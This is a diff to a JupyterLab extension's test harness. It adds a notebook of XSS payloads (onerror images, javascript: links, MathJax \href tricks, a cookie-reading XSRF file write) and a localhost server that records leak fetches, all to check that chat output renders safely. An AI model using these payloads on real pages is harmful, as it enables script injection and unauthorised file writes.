@@ -3,19 +3,23 @@
 from __future__ import annotations
 
 import contextlib
+import http.server
 import json
 import os
+import re
 import secrets
 import signal
 import socket
 import subprocess
 import sys
+import threading
 import time
 import urllib.error
 import urllib.request
 from collections.abc import Iterator, Mapping
 from dataclasses import dataclass
 from pathlib import Path
+from typing import Any
 
 import nbformat
 from nbformat.v4 import new_code_cell, new_notebook
@@ -68,6 +72,92 @@ PANEL_CELLS = (
 )
 CONTROLS_CELL, PANEL_CHAT_CELL, EXPLORE_CELL = 1, 2, 3
 
+# The attacks notebook (its own workspace too): cells that ask the simulator to echo the attack
+# classes of tests/test_safety.py. Each payload would set ``window.__pwned`` to its own number, fetch
+# from ``leak`` (a recording server) or write a file through /api/contents, if it ever ran.
+ATTACKS_NOTEBOOK = "attacks.ipynb"
+ATTACKS_WORKSPACE = "attacks"
+NO_LEAK_URL = "http://127.0.0.1:9"  # nothing listens on port 9 (discard)
+PWNED = re.compile(r"__pwned=(\d+)")  # the payloads' markers, as they appear in the text shown
+ECHO = "%%heroku_chat --no-history\necho: "
+SHOWCASE_CELL, TEX_CELL = 1, 12  # 0 loads the extension; 2-14 are one attack class each
+THINKING_CELL, ATTACK_EXPLORE_CELL, HISTORY_CHAT_CELL, HISTORY_CELL = 15, 16, 17, 18
+# What the showcase cell asks for: math to typeset (inline and displayed) and code to highlight.
+SHOWCASE = (
+    "Euler: $e^{i\\pi}+1=0$, and in Python:\n\n"
+    '```python\ndef inc(x: int) -> int:\n    """One more."""\n    return x + 1  # simple\n```\n\n'
+    "$$\\int_0^1 x\\,dx = \\frac{1}{2}$$"
+)
+
+
+def _img(number: int) -> str:
+    return f'<img src=x onerror="window.__pwned={number}">'
+
+
+def attack_cells(leak: str = NO_LEAK_URL) -> tuple[str, ...]:
+    """The attacks notebook's cells; ``leak`` is the URL every image or CSS fetch would go to."""
+    links = (
+        "[a](javascript\\:window.__pwned=11) [b](java&#115;cript:window.__pwned=12) "
+        "[c](javascript&colon;window.__pwned=13) [d][r] <javascript:window.__pwned=14> "
+        "[e](data:text/html,<script>window.__pwned=15</script>) [f](vbscript:window.__pwned=16)\n\n"
+        "[r]: javascript:window.__pwned=17"
+    )
+    math = "\n\n".join(
+        (
+            "$\\href{javascript:window.__pwned=20}{click}$",
+            "$$\\class{pwnclass}{y}$$",
+            "$\\style{background:url(" + leak + "/style.png)}{x}$",
+            "$\\cssId{pwnid}{y}$ $\\data{pwn=1}{y}$ $\\unicode{x41}$ $\\require{html}$",
+            "$\\def\\h{\\hr}\\h ef{javascript:window.__pwned=21}{x}$",
+            "a \\$x\\href{javascript:window.__pwned=22}{y}$ b",
+            "\\(\\href{javascript:window.__pwned=23}{x}\\) \\[\\href{javascript:window.__pwned=24}{x}\\]",
+            "\\begin{equation}\\href{javascript:window.__pwned=25}{x}\\end{equation}",
+        )
+    )
+    raw = (
+        f"<script>window.__pwned=30</script><style>*{{display:none}}</style><iframe src={leak}/frame>"
+        '</iframe>\n\n<a href="javascript:window.__pwned=31">x</a> <svg onload=window.__pwned=32>\n\n'
+        "<details open ontoggle=\"alert('pwned')\">a dialog</details>\n\n"
+        f"| a | b |\n|---|---|\n| {_img(33)} | [x](javascript:window.__pwned=34) |"
+    )
+    xsrf = (  # with the page's _xsrf cookie, this PUT would write pwned.txt next to the notebook
+        "<img src=x onerror=\"window.__pwned=60;fetch('/api/contents/pwned.txt',{method:'PUT',"
+        "headers:{'X-XSRFToken':(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]},"
+        "body:JSON.stringify({type:'file',format:'text',content:'pwned'})})\">"
+    )
+    answers = (
+        f"``a` {_img(1)}",  # backticks that don't balance
+        f"`a\n\n{_img(2)}`",  # a code span across a blank line
+        f"`a\n# heading {_img(3)}`",  # ... across a heading
+        f"```a`b\n{_img(4)}\n```",  # a "fence" whose info string has a backtick
+        f"- item\n\n  ```\n  {_img(5)}\n  ```\n{_img(6)}",  # a fence inside a list item
+        f"```\x0b{_img(7)}\n```\n{_img(8)}",  # \x0b: a line break to splitlines(), not to Markdown
+        f"text\u2028```\n{_img(9)}\n```\u2028{_img(10)}",
+        f"$$\n\n![x]({leak}/dollars.png?q=secret)\n\n$$",  # $$ across a blank line
+        f"\\$ ![x]({leak}/escaped.png?q=secret) $",  # an escaped dollar
+        links,
+        math,
+        raw,
+        xsrf,
+    )
+    cells = (
+        "%load_ext heroku_magic",
+        ECHO + SHOWCASE,
+        *(ECHO + answer for answer in answers),
+        # The reasoning quotes the prompt's first 60 characters, so it carries the image too.
+        f"%%heroku_chat --no-history --thinking 2048\necho: {_img(40)}\n\n[x](javascript\\:window.__pwned=41)",
+        f"%%heroku_explore --grid temperature=0,1\necho: ``a` {_img(50)}\n\n"
+        "$\\href{javascript:window.__pwned=51}{x}$",
+        # Recorded in the conversation (no --no-history), so that %heroku_history shows it.
+        f"%%heroku_chat\necho: {_img(70)} and [x](javascript&colon;window.__pwned=71) and $\\class{{pwnclass}}{{y}}$",
+        "%heroku_history",
+    )
+    assert cells[TEX_CELL] == ECHO + math and cells[THINKING_CELL].startswith(
+        "%%heroku_chat --no-history --thinking"
+    )
+    assert cells[ATTACK_EXPLORE_CELL].startswith("%%heroku_explore") and len(cells) == HISTORY_CELL + 1
+    return cells
+
 
 class LabStartError(RuntimeError):
     """JupyterLab exited or did not answer in time."""
@@ -90,12 +180,63 @@ class Lab:
         where = f"/lab/workspaces/{workspace}" if workspace else "/lab"
         return f"{self.url}{where}/tree/{name}?token={self.token}"
 
+    @property
+    def data_dir(self) -> Path:
+        """The server's JUPYTER_DATA_DIR (the notebook-signing key and the trust database)."""
+        return self.root.parent / "data"
+
     def log_tail(self, lines: int = 40) -> str:
         """The end of the server's log, for failure messages."""
         try:
             return "\n".join(self.log.read_text(errors="replace").splitlines()[-lines:])
         except OSError:
             return "(no log)"
+
+
+class RecordingServer:
+    """An HTTP server on 127.0.0.1 that records every connection and request it gets (answering 404).
+
+    Where the attacks notebook's images and CSS point: a request here means the page fetched
+    something a model's answer asked for.
+    """
+
+    def __init__(self) -> None:
+        self.requests: list[str] = []
+        record = self.requests.append
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def setup(self) -> None:
+                super().setup()
+                record("connection")  # even a connection that never sends a request
+
+            def handle_one_request(self) -> None:
+                super().handle_one_request()
+                if self.requestline:
+                    record(self.requestline)
+
+            def do_GET(self) -> None:  # also HEAD, POST, ... through __getattr__ below
+                self.send_error(404)
+
+            def __getattr__(self, name: str) -> Any:
+                if name.startswith("do_"):
+                    return self.do_GET
+                raise AttributeError(name)
+
+            def log_message(self, format: str, *args: Any) -> None:
+                """Quiet: the requests are recorded instead."""
+
+        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
+        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True, name="recorder")
+
+    def __enter__(self) -> RecordingServer:
+        self._thread.start()
+        return self
+
+    def __exit__(self, *exc: object) -> None:
+        self._server.shutdown()
+        self._server.server_close()
+        self._thread.join()
 
 
 def free_port() -> int:
@@ -144,19 +285,23 @@ def _stop(process: subprocess.Popen[bytes]) -> None:
 
 
 @contextlib.contextmanager
-def running_lab(base: Path, env: Mapping[str, str]) -> Iterator[Lab]:
+def running_lab(base: Path, env: Mapping[str, str], leak: str = NO_LEAK_URL) -> Iterator[Lab]:
     """JupyterLab on a free 127.0.0.1 port with a token, serving ``base/root`` (holding the notebooks).
 
-    Configuration, runtime files and IPython's profile live under ``base`` too, so nothing of the
-    user's setup is read or written. ``env`` is added to the server's (and so the kernels')
-    environment. The process is polled while it starts and always stopped.
+    Configuration, data (the notebook-signing key), runtime files and IPython's profile live under
+    ``base`` too, so nothing of the user's setup is read or written. ``env`` is added to the
+    server's (and so the kernels') environment; ``leak`` is where the attacks notebook's images and
+    CSS point. The process is polled while it starts and always stopped.
     """
-    root, config_dir, runtime_dir, ipython_dir = (base / n for n in ("root", "config", "runtime", "ipython"))
-    for folder in (root, config_dir, runtime_dir, ipython_dir):
+    root, config_dir, data_dir, runtime_dir, ipython_dir = (
+        base / n for n in ("root", "config", "data", "runtime", "ipython")
+    )
+    for folder in (root, config_dir, data_dir, runtime_dir, ipython_dir):
         folder.mkdir(parents=True, exist_ok=True)
     write_lab_config(config_dir)
     write_notebook(root / NOTEBOOK)
     write_notebook(root / PANELS_NOTEBOOK, PANEL_CELLS)
+    write_notebook(root / ATTACKS_NOTEBOOK, attack_cells(leak))
     port, token = free_port(), secrets.token_hex(16)
     command = [
         sys.executable,
@@ -176,6 +321,8 @@ def running_lab(base: Path, env: Mapping[str, str]) -> Iterator[Lab]:
         **os.environ,
         **env,
         "JUPYTER_CONFIG_DIR": str(config_dir),
+        # The notebook-signing key and trust database (a save signs the notebook) stay here too.
+        "JUPYTER_DATA_DIR": str(data_dir),
         "JUPYTER_RUNTIME_DIR": str(runtime_dir),
         "IPYTHONDIR": str(ipython_dir),
     }
